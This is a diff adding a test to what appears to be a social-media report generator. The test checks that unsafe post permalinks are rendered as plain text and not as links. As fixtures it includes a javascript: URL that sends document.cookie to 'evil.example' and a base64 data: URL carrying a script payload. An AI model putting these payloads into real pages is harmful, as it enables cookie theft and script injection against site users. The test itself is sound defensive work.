@@ -233,3 +233,23 @@ def test_key_event_days_ga4_thresholded_are_named_in_the_data_notes(settled, wor
 
     assert "in the key events by event name" in report.html
     assert "GA4 reported no thresholding" not in report.html
+
+
+def test_only_web_addresses_become_links_a_script_or_data_permalink_is_shown_as_text(settled, work_directory):
+    copy = copy_of_settled(settled, work_directory)
+    first, last = settled.window
+    top = "select post_id, post_text from marts.posts where published_date between ? and ? order by engagements desc limit 3"
+    (scripted, scripted_text), (embedded, _), (kept, _) = query(copy, top, first, last)
+    with duckdb.connect(str(copy)) as connection:  # as a post's link could come back from a platform or a hand edit
+        set_link = "update marts.posts set permalink = ? where post_id = ?"
+        connection.execute(set_link, [" JavaScript:fetch('//evil.example/'+document.cookie)", scripted])
+        connection.execute(set_link, ["data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", embedded])
+        connection.execute(set_link, ["HTTPS://www.facebook.com/123_456", kept])
+
+    posts = re.search(r'<table id="top-posts">.*?</table>', build_report(copy, first, last, "en").html, re.S)[0]
+
+    links = re.findall(r'href="([^"]*)"', posts)
+    assert links and all(re.match(r"https?://", link, re.I) for link in links), links
+    assert "HTTPS://www.facebook.com/123_456" in links
+    assert "javascript" not in posts.lower() and "data:" not in posts
+    assert f"<tr><td>{html.escape(scripted_text[:40])}" in posts, "the post is still listed, as text"
